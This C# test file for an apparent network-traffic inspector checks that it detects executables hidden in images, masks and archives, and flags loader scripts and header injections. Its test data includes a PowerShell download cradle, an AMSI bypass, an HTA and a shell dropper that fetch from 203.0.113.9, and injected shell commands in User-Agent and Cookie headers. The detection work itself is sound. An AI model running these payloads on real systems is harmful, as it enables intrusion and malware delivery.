using System.Buffers.Binary;
using System.Text;
using NetHawk.Capture.Peek;
using NetHawk.Core.Peek;

namespace NetHawk.Tests.Capture;

/// <summary>Programs and scripts that are sent as something else, and what honestly looks alike.</summary>
public class HiddenProgramTests
{
    private static byte[] Program()
    {
        byte[] p = [(byte)'M', (byte)'Z', 0x90, 0, 3, 0, 0, 0, .. new byte[400]];
        BinaryPrimitives.WriteInt32LittleEndian(p.AsSpan(60), 0x80);
        "!This program cannot be run in DOS mode."u8.CopyTo(p.AsSpan(0x4D));
        "PE\0\0"u8.CopyTo(p.AsSpan(0x80));
        return p;
    }

    private static byte[] Archive(string name) => [.. "PK\u0003\u0004"u8, .. new byte[22], (byte)name.Length, 0, 0, 0, .. Encoding.ASCII.GetBytes(name), .. new byte[200]];

    [Fact]
    public void A_program_is_seen_through_a_mask_a_picture_and_figures()
    {
        byte[] masked = [.. Program().Select(b => (byte)(b ^ 0x5A))];
        Assert.Equal(HttpResponse.Masked, HttpPeek.SentAs(masked));
        Assert.Equal(HttpResponse.InPicture, HttpPeek.SentAs([.. "GIF89a\u0001\u0002\u0003"u8, .. Program()]));
        Assert.Equal(HttpResponse.Hexadecimal, HttpPeek.SentAs([.. "4d5a90000300000004000000ffff"u8, .. new byte[200]]));
        Assert.Equal("EXE", HttpPeek.SentAs(Program()));
        masked[0x81] ^= 1;
        Assert.Equal("", HttpPeek.SentAs(masked));
        Assert.Equal("", HttpPeek.SentAs([.. "GIF89a"u8, .. new byte[500]]));
    }

    [Theory]
    [InlineData("invoice.exe", true)]
    [InlineData("a/Statement.PDF.vbs", true)]
    [InlineData("readme.txt", false)]
    [InlineData("lib/app.js", false)]
    public void An_archive_is_told_by_its_first_file(string name, bool runs) => Assert.Equal(runs ? HttpResponse.Packed : "", HttpPeek.SentAs(Archive(name)));

    [Theory]
    [InlineData("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\r\n", true)]
    [InlineData("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed');\r\nIEX $x\r\n", true)]
    [InlineData("var a=new ActiveXObject('WScript.Shell');var x=new ActiveXObject('MSXML2.XMLHTTP');x.open('GET','http://203.0.113.9/a',false);", true)]
    [InlineData("<html><head><HTA:APPLICATION ID=\"a\"><script>CreateObject(\"WScript.Shell\").Run \"powershell -enc SQBFAFgA\",0</script>", true)]
    [InlineData("#!/bin/sh\ncd /tmp; wget http://203.0.113.9/x86; chmod 777 x86; ./x86\n", true)]
    [InlineData("#!/bin/sh\nset -e\napt-get update\napt-get install -y curl gnupg\n", false)]
    [InlineData("<html><body>Type IEX (New-Object Net.WebClient).DownloadString('http://get.example/a.ps1') to install.</body></html>", false)]
    [InlineData("{\"script\":\"IEX (New-Object Net.WebClient).DownloadString('http://get.example/a')\"}", false)]
    [InlineData("$service = Get-Service -Name Spooler\r\nif ($service.Status -ne 'Running') { Start-Service Spooler }\r\n", false)]
    [InlineData("function save(blob) { var a = document.createElement('a'); a.download = 'x.csv'; a.click(); }", false)]
    public void A_loaders_script_is_told_by_what_it_says(string text, bool loads) => Assert.Equal(loads ? HttpResponse.Script : "", HttpPeek.SentAs(Encoding.ASCII.GetBytes(text)));

    private const string Head = "TVqQAAMAAAAEAAAA";

    /// <summary>Behind a picture wherever it stands; in a text only backwards and at its end: articles quote a program's first letters, and lists are sorted backwards.</summary>
    [Theory]
    [InlineData("image/jpeg", "<<BASE64_START>>" + Head + "//8AALgAAAA", HttpResponse.InPicture)]
    [InlineData("image/png", "AA//8AAAAEAAAAMAAQqVT", HttpResponse.InPicture)]
    [InlineData("text/plain", "AAAAALgAA8//AAAAEAAAAMAAQqVT\r\n", HttpResponse.Backwards)]
    [InlineData("text/plain", "a Windows program in base64 begins with " + Head, "")]
    [InlineData("text/plain", "AAAAEAAAAMAAQqVT is how it looks backwards", "")]
    [InlineData("text/html", "AAAAEAAAAMAAQqVT", "")]
    [InlineData("image/jpeg", "TVqQ", "")]
    public void A_program_far_behind_the_beginning_is_told(string type, string part, string told)
    {
        var state = new PeekState();
        var peek = new PayloadPeek();
        PeekInfo? Says(bool server, byte[] bytes) => peek.Look(ref state, server, NetHawk.Core.Packets.IpProtocol.Tcp, 40_000, 8000, bytes);
        Says(false, "GET /a.jpg HTTP/1.1\r\nHost: x\r\n\r\n"u8.ToArray());
        Says(true, [.. Encoding.ASCII.GetBytes($"HTTP/1.1 200 OK\r\nContent-Type: {type}\r\nContent-Length: 90000\r\n\r\n"), .. new byte[] { 0xFF, 0xD8, 0xFF, 0xE0 }, .. new byte[400]]);
        Assert.Null(Says(true, new byte[1400]));
        byte[] last = [.. new byte[700], .. Encoding.ASCII.GetBytes(part)];
        Assert.Equal(told, Says(true, last) is HttpProgram program ? program.Program : "");

        // Once, and never in the answer behind it.
        Assert.Null(Says(true, last) is HttpProgram && told.Length > 0 ? told : null);
        Says(true, "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 900\r\n\r\n{"u8.ToArray());
        Assert.IsNotType<HttpProgram>(Says(true, last));
    }

    [Fact]
    public void A_program_in_the_packet_of_the_answers_header_is_told_with_it()
    {
        var state = new PeekState();
        var peek = new PayloadPeek();
        var read = peek.Look(ref state, true, NetHawk.Core.Packets.IpProtocol.Tcp, 40_000, 8000, "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n\r\nAA//8AAAAEAAAAMAAQqVT"u8);
        Assert.Equal(HttpResponse.Backwards, Assert.IsType<HttpResponse>(read).Program);
    }

    [Theory]
    [InlineData("User-Agentt: zerodiumsystem(\"/bin/sh -c id\");", true)]
    [InlineData("Cookie: SESSID=`curl http://203.0.113.9/x`", true)]
    [InlineData("Cookie: price=20$; theme=dark", false)]
    [InlineData("User-Agent: Mozilla/5.0 (X11; Linux x86_64)", false)]
    public void A_shells_words_in_a_header_are_kept(string header, bool odd) =>
        Assert.Equal(odd, HttpPeek.Request(Encoding.ASCII.GetBytes($"GET / HTTP/1.1\r\nHost: x\r\n{header}\r\n\r\n"), false).OddHeader.Length > 0);
}
